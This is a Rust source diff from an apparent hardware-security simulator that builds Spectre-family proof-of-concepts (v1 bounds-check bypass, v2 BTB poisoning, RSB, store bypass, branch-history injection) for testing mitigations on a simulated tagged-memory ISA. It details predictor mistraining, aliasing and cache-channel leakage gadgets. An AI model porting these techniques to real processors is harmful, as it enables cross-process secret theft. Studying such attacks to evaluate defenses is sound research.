@@ -1,0 +1,494 @@
+//! Spectre-family proof-of-concepts: PHT (v1), BTB (v2), RSB (v5),
+//! STL (v4) and BHB.
+
+use crate::layout::{self, BENIGN, COND_SLOT, PROBE, PTR_SLOT, SIZE_ADDR};
+use crate::oracle::{cache_channel_outcome, AttackOutcome, GadgetFlavor};
+use crate::{AttackClass, TransientAttack};
+use sas_isa::{Cond, Operand, Program, ProgramBuilder, Reg, TagNibble, VirtAddr};
+use sas_pipeline::System;
+use specasan::{build_system, Mitigation, SimConfig};
+
+/// Register conventions shared by the gadgets:
+/// `X2` = gadget data pointer, `X0` = gadget index, `X3` = probe base,
+/// `X5/X6/X8` = ACCESS/USE/TRANSMIT temporaries.
+fn emit_cache_gadget(asm: &mut ProgramBuilder) {
+    asm.ldrb_idx(Reg::X5, Reg::X2, Reg::X0); // ACCESS
+    asm.lsl(Reg::X6, Reg::X5, Operand::imm(6)); // USE
+    asm.ldrb_idx(Reg::X8, Reg::X3, Reg::X6); // TRANSMIT
+}
+
+/// Loads the flavour-appropriate secret pointer into `X2` and zeroes `X0`.
+fn set_gadget_inputs(asm: &mut ProgramBuilder, flavor: GadgetFlavor) {
+    let ptr = match flavor {
+        GadgetFlavor::TagViolating => layout::secret_ptr_violating(),
+        GadgetFlavor::TagMatching => layout::secret_ptr_valid(),
+    };
+    asm.mov_imm64(Reg::X2, ptr.raw());
+    asm.movz(Reg::X0, 0, 0);
+}
+
+fn finish_run(mut sys: System, max_cycles: u64) -> (System, AttackOutcome) {
+    let exit = sys.run(max_cycles).exit;
+    let out = cache_channel_outcome(&sys, exit);
+    (sys, out)
+}
+
+// ---------------------------------------------------------------------------
+// Spectre-v1 (PHT / bounds-check bypass)
+// ---------------------------------------------------------------------------
+
+/// Spectre-v1: the bounds-check-bypass gadget of Listing 1. The PHT is
+/// mistrained with in-bounds executions; the attack run's bounds check
+/// resolves slowly and speculation follows the trained "in bounds"
+/// prediction into an out-of-bounds ACCESS.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpectreV1;
+
+/// Builds the staged v1 program; exposed for reuse by examples and benches.
+pub fn spectre_v1_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let pht = cfg.core.pht_entries;
+    let mut asm = ProgramBuilder::new();
+    asm.mov_imm64(Reg::X9, SIZE_ADDR);
+    asm.mov_imm64(
+        Reg::X2,
+        VirtAddr::new(layout::ARRAY1).with_key(TagNibble::new(layout::ARRAY1_KEY)).raw(),
+    );
+    asm.mov_imm64(Reg::X3, PROBE);
+    // Victim warm-up: the secret's line is cached with a legitimate access.
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0);
+
+    // Training: 12 fast in-bounds passes.
+    asm.movz(Reg::X10, 12, 0);
+    asm.movz(Reg::X0, 0, 0);
+    let top = asm.here();
+    asm.ldr(Reg::X1, Reg::X9, 0);
+    asm.cmp(Reg::X0, Operand::reg(Reg::X1));
+    let train_branch_pc = asm.here();
+    let skip = asm.new_label();
+    asm.b_cond(Cond::Hs, skip);
+    emit_cache_gadget(&mut asm);
+    asm.bind(skip);
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, top);
+
+    // Window: the bounds variable now misses to DRAM.
+    asm.flush(Reg::X9, 0);
+
+    // Attack: an aliased branch (same PHT index) inherits the prediction.
+    // v1's out-of-bounds index reaches the secret through array1's pointer;
+    // the access carries array1's key — inherently tag-violating.
+    let _ = flavor;
+    while (asm.here() + 3) % pht != train_branch_pc % pht {
+        asm.nop();
+    }
+    asm.mov_imm64(Reg::X0, layout::SECRET_ADDR - layout::ARRAY1); // OOB index
+    asm.ldr(Reg::X1, Reg::X9, 0); // slow
+    asm.cmp(Reg::X0, Operand::reg(Reg::X1));
+    let end = asm.new_label();
+    asm.b_cond(Cond::Hs, end);
+    emit_cache_gadget(&mut asm);
+    asm.bind(end);
+    asm.halt();
+    asm.build().expect("v1 assembles")
+}
+
+impl TransientAttack for SpectreV1 {
+    fn name(&self) -> &'static str {
+        "Spectre-PHT (v1)"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Spectre
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, spectre_v1_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        finish_run(sys, 3_000_000).1
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Spectre-v2 (BTB poisoning)
+// ---------------------------------------------------------------------------
+
+/// Spectre-v2: an indirect call is poisoned through the tagless BTB. The
+/// attacker trains the BTB slot toward a disclosure gadget from a congruent
+/// call site; the victim's call (target resolving slowly from memory)
+/// transiently executes the gadget.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpectreV2;
+
+/// Builds the v2 program. The BTB here is indexed by PC only
+/// (`btb_history_bits` is zeroed by [`SpectreV2::run`]), isolating the
+/// target-injection channel from BHB effects.
+pub fn spectre_v2_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let btb = cfg.core.btb_entries;
+    let mut asm = ProgramBuilder::new();
+
+    // 0..=3: the disclosure gadget (no BTI landing pad).
+    debug_assert_eq!(asm.here(), 0);
+    emit_cache_gadget(&mut asm);
+    asm.ret();
+    // 4..=5: the legitimate call target (with BTI).
+    let benign_fn = asm.here();
+    asm.bti(sas_isa::BtiKind::Call);
+    asm.ret();
+
+    // main
+    let entry = asm.here();
+    asm.mov_imm64(Reg::X3, PROBE);
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0); // warm the secret line
+    asm.mov_imm64(Reg::X2, BENIGN); // benign gadget inputs for training
+    asm.movz(Reg::X0, 0, 0);
+    asm.movz(Reg::X7, 0, 0); // X7 = gadget address (0)
+    asm.mov_imm64(Reg::X13, PTR_SLOT);
+    asm.movz(Reg::X10, 6, 0);
+    let top = asm.here();
+    let train_call_pc = asm.here();
+    asm.blr(Reg::X7); // architecturally executes the gadget on benign data
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, top);
+
+    // Attack: victim call whose target (the benign function) loads slowly.
+    asm.flush(Reg::X13, 0);
+    set_gadget_inputs(&mut asm, flavor);
+    // Pad so the attack call aliases the trained BTB slot; the sled also
+    // guarantees the flush committed before the pointer load issues.
+    while (asm.here() + 1) % btb != train_call_pc % btb {
+        asm.nop();
+    }
+    asm.ldr(Reg::X7, Reg::X13, 0); // slow: X7 = benign_fn
+    asm.blr(Reg::X7); // predicted: gadget; actual: benign_fn
+    asm.halt();
+    asm.entry(entry);
+    let program = asm.build().expect("v2 assembles");
+    debug_assert_eq!(program.fetch(benign_fn), Some(sas_isa::Inst::Bti { kind: sas_isa::BtiKind::Call }));
+    program
+}
+
+impl TransientAttack for SpectreV2 {
+    fn name(&self) -> &'static str {
+        "Spectre-BTB (v2)"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Spectre
+    }
+
+    fn has_matching_flavor(&self) -> bool {
+        true
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut cfg = *cfg;
+        cfg.core.btb_history_bits = 0; // isolate the PC-indexed BTB channel
+        let mut sys = build_system(&cfg, spectre_v2_program(&cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        sys.mem_mut().write_arch(VirtAddr::new(PTR_SLOT), 8, 4); // benign_fn
+        finish_run(sys, 3_000_000).1
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Spectre-RSB (v5 / ret2spec)
+// ---------------------------------------------------------------------------
+
+/// Spectre-RSB: wrong-path execution pushes a return address onto the RSB
+/// that is never architecturally popped (squash does not repair the RSB).
+/// The victim's next `RET` speculates into the planted gadget thunk, while
+/// the committed shadow stack still names the true return site — which is
+/// exactly the divergence SpecCFI's return check catches.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpectreRsb;
+
+/// Builds the v5 program.
+pub fn spectre_rsb_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let pht = cfg.core.pht_entries;
+    let mut asm = ProgramBuilder::new();
+
+    // 0..=3: gadget, parked behind an infinite fetch loop.
+    emit_cache_gadget(&mut asm);
+    asm.b_idx(3); // self-loop: transient fetch parks here harmlessly
+    // 4: pollution call target: an indirect jump that can never be
+    // predicted (cold BTB), so wrong-path fetch stalls without popping
+    // the freshly pushed RSB entry.
+    let pollution_target = asm.here();
+    asm.br(Reg::X19);
+
+    // main
+    let entry = asm.here();
+    asm.mov_imm64(Reg::X3, PROBE);
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0); // warm the secret line
+    asm.mov_imm64(Reg::X22, 0x7400); // LR spill slot
+    asm.mov_imm64(Reg::X9, COND_SLOT);
+    asm.mov_imm64(Reg::X19, 3); // park wrong-path fetch on the self-loop
+    asm.flush(Reg::X9, 0); // the in-victim condition will load slowly
+
+    // Trainer: teach "taken" into the PHT slot the victim's internal branch
+    // will alias.
+    asm.movz(Reg::X10, 6, 0);
+    let t_top = asm.here();
+    asm.cmp(Reg::XZR, Operand::imm(0));
+    let train_branch_pc = asm.here();
+    let t_skip = asm.new_label();
+    asm.b_cond(Cond::Eq, t_skip); // always taken
+    asm.nop();
+    asm.bind(t_skip);
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, t_top);
+
+    // Call the victim with flavour-appropriate gadget inputs preloaded.
+    set_gadget_inputs(&mut asm, flavor);
+    let victim = asm.named_label("victim");
+    asm.bl(victim);
+    asm.halt();
+
+    // victim:
+    asm.bind(victim);
+    asm.bti(sas_isa::BtiKind::Call);
+    asm.str(Reg::LR, Reg::X22, 0); // spill the return address
+    asm.flush(Reg::X22, 0); // "a large body evicts the spill"
+    // Pad so the internal branch aliases the trained (taken) counter; the
+    // sled also gives both flushes time to commit.
+    while (asm.here() + 2) % pht != train_branch_pc % pht {
+        asm.nop();
+    }
+    asm.ldr(Reg::X1, Reg::X9, 0); // slow condition (COND_SLOT = 1)
+    asm.cmp(Reg::X1, Operand::imm(0));
+    let pollute = asm.new_label();
+    asm.b_cond(Cond::Eq, pollute); // predicted taken (aliased), actually not
+    // architectural path: reload the return address (slow) and return.
+    asm.ldr(Reg::LR, Reg::X22, 0);
+    asm.ret(); // RSB top: the planted thunk; shadow stack: the true Vret
+    // wrong-path-only pollution:
+    asm.bind(pollute);
+    asm.bl_pollution(pollution_target); // helper below: bl whose fall-through is the thunk
+    asm.b_idx(0); // the thunk: jump to the gadget
+    asm.entry(entry);
+    asm.build().expect("v5 assembles")
+}
+
+impl TransientAttack for SpectreRsb {
+    fn name(&self) -> &'static str {
+        "Spectre-RSB (v5)"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Spectre
+    }
+
+    fn has_matching_flavor(&self) -> bool {
+        true
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, spectre_rsb_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        sys.mem_mut().write_arch(VirtAddr::new(COND_SLOT), 8, 1); // branch not taken
+        finish_run(sys, 3_000_000).1
+    }
+}
+
+/// Extension trait so the pollution `BL` reads naturally above.
+trait BlPollution {
+    fn bl_pollution(&mut self, target: usize) -> &mut Self;
+}
+
+impl BlPollution for ProgramBuilder {
+    fn bl_pollution(&mut self, target: usize) -> &mut Self {
+        self.push(sas_isa::Inst::Bl { target })
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Spectre-STL (v4 / speculative store bypass)
+// ---------------------------------------------------------------------------
+
+/// Spectre-STL: the memory-dependence unit predicts a load independent of an
+/// older (slow-addressed) store, so the load transiently reads the *stale*
+/// value — the secret that the store was about to overwrite.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpectreStl;
+
+/// Key colour of the victim slot used by the STL gadget.
+pub const STL_SLOT_KEY: u8 = 0x4;
+/// Address of the victim slot (stale secret lives here).
+pub const STL_SLOT: u64 = 0x4400;
+
+/// Builds the v4 program.
+pub fn spectre_stl_program(_cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let mut asm = ProgramBuilder::new();
+    let slot_key = match flavor {
+        GadgetFlavor::TagViolating | GadgetFlavor::TagMatching => STL_SLOT_KEY,
+    };
+    let slot_ptr = VirtAddr::new(STL_SLOT).with_key(TagNibble::new(slot_key));
+    asm.mov_imm64(Reg::X3, PROBE);
+    // Warm the victim slot so the bypassing load hits L1 (a fast transient
+    // read, like the real attack).
+    asm.mov_imm64(Reg::X16, slot_ptr.raw());
+    asm.ldrb(Reg::X12, Reg::X16, 0);
+    // The store's address arrives late: it is loaded from a flushed slot.
+    asm.mov_imm64(Reg::X13, PTR_SLOT);
+    asm.flush(Reg::X13, 0);
+    asm.movz(Reg::X15, 1, 0); // the "safe" overwrite value
+    for _ in 0..24 {
+        asm.nop(); // let the flush commit
+    }
+    asm.ldr(Reg::X14, Reg::X13, 0); // slow: X14 = slot pointer
+    asm.str(Reg::X15, Reg::X14, 0); // store SAFE over the stale secret
+    asm.ldrb(Reg::X5, Reg::X16, 0); // bypassing load: reads stale SECRET
+    asm.lsl(Reg::X6, Reg::X5, Operand::imm(6));
+    asm.ldrb_idx(Reg::X8, Reg::X3, Reg::X6); // transmit
+    asm.halt();
+    asm.build().expect("v4 assembles")
+}
+
+impl TransientAttack for SpectreStl {
+    fn name(&self) -> &'static str {
+        "Spectre-STL (v4)"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Spectre
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, spectre_stl_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        let slot_ptr = VirtAddr::new(STL_SLOT).with_key(TagNibble::new(STL_SLOT_KEY));
+        let mem = sys.mem_mut();
+        mem.write_arch(VirtAddr::new(STL_SLOT), 8, layout::SECRET); // stale secret
+        mem.tags.set_range(VirtAddr::new(STL_SLOT), 16, TagNibble::new(STL_SLOT_KEY));
+        mem.write_arch(VirtAddr::new(PTR_SLOT), 8, slot_ptr.raw());
+        finish_run(sys, 3_000_000).1
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Spectre-BHB (branch history injection)
+// ---------------------------------------------------------------------------
+
+/// Spectre-BHB: the attacker cannot place a call at a congruent address, but
+/// crafts the *branch history* so that the victim's indirect branch indexes
+/// the BTB slot the attacker trained — history-based aliasing into the
+/// indirect predictor.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct SpectreBhb;
+
+/// Emits a committed conditional branch with the given outcome, shifting the
+/// global history by one bit.
+fn emit_history_bit(asm: &mut ProgramBuilder, taken: bool) {
+    asm.cmp(Reg::XZR, Operand::imm(0)); // Z = 1
+    if taken {
+        let t = asm.new_label();
+        asm.b_cond(Cond::Eq, t); // taken (skips one nop)
+        asm.nop();
+        asm.bind(t);
+    } else {
+        let t = asm.new_label();
+        asm.b_cond(Cond::Ne, t); // never taken: falls through
+        asm.bind(t);
+    }
+}
+
+/// Builds the BHB program. The training call site and the victim call site
+/// are at *different* (non-congruent) PCs; only the crafted history makes
+/// their BTB indices collide.
+pub fn spectre_bhb_program(cfg: &SimConfig, flavor: GadgetFlavor) -> Program {
+    let btb = cfg.core.btb_entries;
+    let hist_bits = cfg.core.btb_history_bits;
+    assert!(hist_bits >= 2, "BHB attack needs history-indexed BTB");
+    let mut asm = ProgramBuilder::new();
+
+    // gadget (0..=3) + benign target (4..=5), as in v2.
+    emit_cache_gadget(&mut asm);
+    asm.ret();
+    let benign_fn = asm.here();
+    asm.bti(sas_isa::BtiKind::Call);
+    asm.ret();
+
+    let entry = asm.here();
+    asm.mov_imm64(Reg::X3, PROBE);
+    asm.mov_imm64(Reg::X11, layout::secret_ptr_valid().raw());
+    asm.ldrb(Reg::X12, Reg::X11, 0);
+    asm.mov_imm64(Reg::X2, BENIGN);
+    asm.movz(Reg::X0, 0, 0);
+    asm.movz(Reg::X7, 0, 0); // gadget address
+    asm.mov_imm64(Reg::X13, PTR_SLOT);
+
+    // Training: history 0b...00 (two not-taken bits), then the call.
+    asm.movz(Reg::X10, 6, 0);
+    let top = asm.here();
+    emit_history_bit(&mut asm, false);
+    emit_history_bit(&mut asm, false);
+    for _ in 0..32 {
+        asm.nop(); // commit lag: history must be architected before fetch
+    }
+    let train_call_pc = asm.here();
+    asm.blr(Reg::X7);
+    asm.sub(Reg::X10, Reg::X10, Operand::imm(1));
+    asm.cbnz_idx(Reg::X10, top);
+
+    // Attack: craft a different history (two taken bits) and pick the
+    // victim call PC so that `pc ^ history` collides with the trained slot.
+    asm.flush(Reg::X13, 0);
+    set_gadget_inputs(&mut asm, flavor);
+    emit_history_bit(&mut asm, true);
+    emit_history_bit(&mut asm, true);
+    // Model the committed-conditional outcome sequence to derive both
+    // fetch-time history folds exactly (newest outcome in the LSB).
+    let fold = |outcomes: &[bool], bits: u32| -> usize {
+        let mut v = 0usize;
+        for &o in outcomes {
+            v = (v << 1) | o as usize;
+        }
+        v & ((1 << bits) - 1)
+    };
+    // Per training iteration: two not-taken history bits, then the loop
+    // branch (taken except on exit).
+    let mut seq: Vec<bool> = Vec::new();
+    let mut train_fold = 0usize;
+    for i in 0..6 {
+        seq.extend([false, false]);
+        train_fold = fold(&seq, hist_bits); // history at this iteration's call
+        seq.push(i < 5); // cbnz outcome
+    }
+    // Attack path: two crafted taken bits after the loop exit.
+    seq.extend([true, true]);
+    let attack_fold = fold(&seq, hist_bits);
+    let target_index = ((train_call_pc ^ train_fold) ^ attack_fold) % btb;
+    while (asm.here() + 1) % btb != target_index {
+        asm.nop();
+    }
+    asm.ldr(Reg::X7, Reg::X13, 0); // slow: benign_fn
+    asm.blr(Reg::X7);
+    asm.halt();
+    asm.entry(entry);
+    let _ = benign_fn;
+    asm.build().expect("bhb assembles")
+}
+
+impl TransientAttack for SpectreBhb {
+    fn name(&self) -> &'static str {
+        "Spectre-BHB (BHI)"
+    }
+
+    fn class(&self) -> AttackClass {
+        AttackClass::Spectre
+    }
+
+    fn has_matching_flavor(&self) -> bool {
+        true
+    }
+
+    fn run(&self, cfg: &SimConfig, m: Mitigation, flavor: GadgetFlavor) -> AttackOutcome {
+        let mut sys = build_system(cfg, spectre_bhb_program(cfg, flavor), m);
+        layout::install_victim(&mut sys);
+        sys.mem_mut().write_arch(VirtAddr::new(PTR_SLOT), 8, 4); // benign_fn
+        finish_run(sys, 3_000_000).1
+    }
+}
